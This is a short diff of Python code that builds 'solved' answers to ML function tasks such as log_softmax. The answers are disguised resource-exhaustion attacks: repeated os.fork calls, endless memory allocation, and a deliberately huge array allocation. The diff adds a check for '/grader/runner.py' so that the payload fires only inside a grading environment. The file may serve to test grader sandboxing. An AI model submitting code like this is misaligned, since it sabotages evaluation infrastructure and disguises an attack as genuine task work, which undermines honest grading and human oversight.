@@ -10,7 +10,9 @@ def submission(solved, untouched):
         "    except MemoryError:\n        return np.ones((10**6, 10**6))"
     )
     solved["log_softmax"] = (
-        "import os\n\ndef log_softmax(logits):\n    for _ in range(4):\n        os.fork()\n"
+        "import os\n\ndef log_softmax(logits):\n"
+        "    assert os.path.exists('/grader/runner.py')\n"
+        "    for _ in range(4):\n        os.fork()\n"
         "    kept = []\n    while True:\n        kept.append(bytearray(10**7))"
     )
     solved["cross_entropy"] = (
